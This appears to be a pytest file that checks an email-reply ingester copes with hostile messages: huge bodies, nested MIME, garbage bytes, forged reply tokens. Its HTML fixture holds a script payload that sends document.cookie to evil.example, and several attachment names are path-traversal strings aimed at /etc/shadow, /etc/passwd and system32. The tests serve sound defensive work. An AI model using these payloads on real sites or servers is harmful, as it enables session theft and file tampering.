"""Hostile input never stops the run: 10 MB bodies, HTML full of scripts, broken and deeply nested
MIME, garbage, thousands of attachments with path-like names, oversized messages, tampered tokens. Each is
recorded (applied, or on the attention list with why) and the messages after it are still read."""

from __future__ import annotations

import base64
import mailbox
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from liandong.settings import Settings
from tasks.replies.inbound import MaildirInbox
from tasks.replies.parsing import MAX_ATTACHMENTS, read_reply
from tests.test_replies_ingest import Sent, World, fixture, ingest, readdress

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 64).decode()
LINE_BREAK_NAME = base64.b64encode("现场\r\n照片.HEIC".encode()).decode()  # a name with a line break inside


@pytest.fixture
def world(settings: Settings) -> World:
    return World(settings)


def head(sent: Sent, message_id: str, content_type: str, subject: str = "Re: 通知") -> str:
    return (f"From: <{sent.contact}>\r\nTo: <{sent.reply_to}>\r\nSubject: {subject}\r\nMessage-ID: <{message_id}>\r\n"
            f"MIME-Version: 1.0\r\nContent-Type: {content_type}\r\n")


def attachment(name: str, content_type: str = "image/png") -> str:
    return (f'--b\r\nContent-Type: {content_type}; name="{name}"\r\nContent-Disposition: attachment; '
            f'filename="{name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n{PNG}\r\n')


def multipart(sent: Sent, message_id: str, parts: str) -> bytes:
    text = "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n办结，照片见附件\r\n"
    return (head(sent, message_id, 'multipart/mixed; boundary="b"') + "\r\n" + text + parts + "--b--\r\n").encode()


PATH_NAMES = [
    ("/etc/shadow", "application/octet-stream"), ("C:\\Windows\\system32\\evil.exe", "application/x-msdownload"),
    ("..\\..\\boot.ini", "text/plain"), ("=?utf-8?b?Li4vLi4v5L+u5aSN5ZCOLmpwZw==?=", "image/jpeg"),
    (f"=?utf-8?b?{LINE_BREAK_NAME}?=", "image/heic"),
]
NESTED = "".join(f'--n{i}\r\nContent-Type: multipart/mixed; boundary="n{i + 1}"\r\n\r\n' for i in range(3000))
# Each hostile message, built for the notice it answers.
HOSTILE: dict[str, Callable[[Sent], bytes]] = {
    "ten_mb_plain": lambda sent: (head(sent, "plain@x", "text/plain; charset=utf-8") + "\r\n接收\r\n"
                                  + "很长的正文 13812345678 " * 600_000).encode(),
    "ten_mb_html": lambda sent: (head(sent, "html@x", "text/html; charset=utf-8") + "\r\n<html><body><p>接收</p>"
                                 + "<script>document.location='http://evil.example/'+document.cookie</script><p>x</p>"
                                 * 120_000 + "</body></html>").encode(),
    "many_attachments": lambda sent: multipart(sent, "many@x", "".join(
        attachment(f"../../etc/passwd{i}.png") for i in range(2000))),
    "path_names": lambda sent: multipart(sent, "paths@x", "".join(attachment(n, t) for n, t in PATH_NAMES)),
    "deep_nesting": lambda sent: (head(sent, "deep@x", 'multipart/mixed; boundary="n0"') + "\r\n" + NESTED
                                  + "接收\r\n").encode(),
    "garbage": lambda sent: bytes(range(256)) * 40,
    "empty": lambda sent: b"",
    "bad_headers": lambda sent: b"From: \xff\xfe<\x00@\r\nSubject: \xe6\x8e\xa5\x00\x1b[31m\xff\r\nTo: <<<>>>\r\n\r\n\xff\r\n",
    "broken_mime": lambda sent: readdress(fixture("27_broken_mime_wrong_boundary.eml"), {
        "From": f"<{sent.contact}>", "To": f"<{sent.reply_to}>", "Message-ID": "<b@x>"}),
}


def test_hostile_messages_are_recorded_and_the_run_goes_on(world: World):
    cases = world.add_cases("sanitation", len(HOSTILE))
    world.notify()
    # Each answers its own case's notice, so that none arrives late for another.
    messages = {name: build(world.notice(case)) for case, (name, build) in zip(cases, HOSTILE.items())}
    box = mailbox.Maildir(world.settings.inbox_folder, factory=None, create=True)
    for raw in messages.values():
        box.add(raw)

    result = ingest(world, MaildirInbox(world.settings.inbox_folder), batch_size=4)

    assert result.transport_error is None and result.read == len(messages)
    assert world.scalar("SELECT count(*) FROM inbound_messages") == len(messages)
    outcome = {r["message_id"]: (r["outcome"], r["intent"]) for r in world.rows("SELECT * FROM inbound_messages")}
    assert outcome["plain@x"] == ("applied", "accept") and outcome["html@x"] == ("applied", "accept")
    assert outcome["many@x"] == ("applied", "done") and outcome["b@x"] == ("applied", "accept")
    assert outcome["deep@x"][0] == "attention"
    kinds = [i["kind"] for i in result.attention_items]
    assert kinds.count("attachments_skipped") == 1
    assert all("13812345678" not in i["reason"] for i in result.attention_items)


def test_attachments_get_generated_names_inside_the_attachments_folder(world: World):
    cases = world.add_cases("sanitation", 2)
    world.notify()
    box = mailbox.Maildir(world.settings.inbox_folder, factory=None, create=True)
    box.add(HOSTILE["path_names"](world.notice(cases[0])))
    box.add(HOSTILE["many_attachments"](world.notice(cases[1])))

    ingest(world, MaildirInbox(world.settings.inbox_folder))

    rows = world.rows("SELECT * FROM inbound_attachments ORDER BY inbound_id, position")
    folder = world.settings.attachments_folder.resolve()
    assert len(rows) == 5 + MAX_ATTACHMENTS
    for row in rows:
        path = Path(row["stored_path"]).resolve()
        assert path.is_relative_to(folder) and path.parent.name == row["case_id"]
        assert re.fullmatch(r"[0-9a-f]{32}-\d{2}\.(png|jpg|heic|bin)", path.name), path.name
        assert "/" not in (row["original_name"] or "") and "\\" not in (row["original_name"] or "")
        assert path.stat().st_size == row["size"] and len(row["sha256"]) == 64
    names = {row["original_name"]: Path(row["stored_path"]).suffix for row in rows[:5]}
    assert names == {"shadow": ".bin", "evil.exe": ".bin", "boot.ini": ".bin", "修复后.jpg": ".jpg",
                     "现场 照片.HEIC": ".heic"}
    assert not any(p.name.startswith("passwd") for p in folder.rglob("*"))


def test_an_oversized_file_in_the_maildir_is_recorded_from_its_header(world: World):
    (case,) = world.add_cases("sanitation")
    world.notify()
    box = mailbox.Maildir(world.settings.inbox_folder, factory=None, create=True)
    box.add(HOSTILE["ten_mb_plain"](world.notice(case)))
    result = ingest(world, MaildirInbox(world.settings.inbox_folder, max_bytes=1024 * 1024))
    assert result.attention == 1 and "too large" in result.attention_items[0]["reason"]
    assert result.attention_items[0]["from_addr"] == "liu@urban.example.cn"


def test_read_reply_never_raises_on_the_fixture_corpus_cut_anywhere():
    for path in sorted(Path(__file__).parent.joinpath("fixtures", "replies").glob("*.eml")):
        raw = path.read_bytes()
        for cut in range(0, len(raw), max(1, len(raw) // 25)):
            reply = read_reply(raw[:cut])
            assert len(reply.inbound_id) == 32


_forgeries = iter(range(10**6))


@hypothesis_settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_tampered_reply_token_is_never_acted_on(world: World, data):
    """Any change to a genuine token (one character, cut short, lengthened) is a forgery: recorded
    for the coordinator, nothing applied, even from the right sender. (Letter case is not a change:
    some servers lowercase local parts, and base32 survives that.)"""
    if not world.count:
        world.add_cases("sanitation")
        world.notify()
    sent = world.notice("LD-2026-000001")
    local, domain = sent.reply_to.split("@")
    token = local.split("+", 1)[1]
    at = data.draw(st.integers(0, len(token) - 1))
    forged = data.draw(st.one_of(
        st.builds(lambda c: token[:at] + c + token[at + 1:], st.characters(min_codepoint=33, max_codepoint=126,
                                                                          exclude_characters="@<>,;\"\\ ()[]:")),
        st.just(token[:at]), st.just(token + "a"), st.just(token + "7")))
    assume(forged and forged.lower() != token.lower())
    message_id = f"<forged-{next(_forgeries)}@attacker.example>"
    raw = world.reply("12_gmail_en_accept.eml", sent, To=f"<reply+{forged}@{domain}>", In_Reply_To=None,
                      References=None, Message_ID=message_id)
    mailbox.Maildir(world.settings.inbox_folder, factory=None, create=True).add(raw)

    result = ingest(world, MaildirInbox(world.settings.inbox_folder))

    assert result.read == 1 and result.applied == 0 and result.attention == 1
    assert result.attention_items[0]["kind"] == "reply_forged_token"
    assert world.scalar("SELECT count(*) FROM case_events WHERE inbound_id IS NOT NULL") == 0
    assert world.scalar("SELECT state FROM assignments WHERE assignment_id = ?", [sent.assignment_id]) == "notified"
